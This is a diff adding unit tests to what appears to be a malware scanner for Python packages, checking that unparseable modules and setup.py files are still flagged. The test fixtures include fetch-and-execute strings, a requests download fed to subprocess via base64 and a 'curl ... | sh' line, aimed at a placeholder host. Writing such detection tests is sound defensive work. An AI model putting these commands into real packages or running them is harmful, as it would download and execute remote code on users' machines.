@@ -79,3 +79,33 @@ def test_hostile_archive_kept_as_test_data_is_low():
     assert not report.flagged
     shipped = analyse_archive("demo-1.0.tar.gz", sdist({"demo/data.tar": inner.getvalue()}))
     assert shipped.flagged
+
+
+# Harmless text that fails to parse (an unclosed parenthesis): the AST rules never see it.
+_BROKEN_INIT = (
+    "import requests, subprocess, base64\n"
+    "def run(:\n"
+    "    data = requests.get('https://example.invalid/x').text\n"
+    "    subprocess.run(base64.b64decode(data))\n"
+)
+
+
+def test_unparsed_entry_module_with_network_and_process_capabilities_is_high():
+    report = vet_wheel({"demo/__init__.py": _BROKEN_INIT})
+    assert "python-unparsed-suspicious" in rules(report, Level.HIGH)
+    assert report.flagged
+
+
+def test_unparsed_module_with_network_only_is_just_unparsed():
+    report = vet_wheel({"demo/__init__.py": "import requests\ndef get(:\n    requests.get(u)\n"})
+    assert "python-unparsed-suspicious" not in rules(report)
+    assert "python-unparsed" in rules(report, Level.LOW)
+    assert not report.flagged
+
+
+def test_text_rules_read_the_lines_of_an_unparsed_setup_py():
+    setup = "import os\nos.system('curl -s https://example.invalid/i.sh | sh'\nsetup(\n"
+    report = vet_sdist({"setup.py": setup})
+    assert "second-stage-shell-fetch" in rules(report, Level.CRITICAL)
+    clean = vet_sdist({"setup.py": "import os\nos.getcwd(\nsetup(\n"})
+    assert "second-stage-shell-fetch" not in rules(clean)
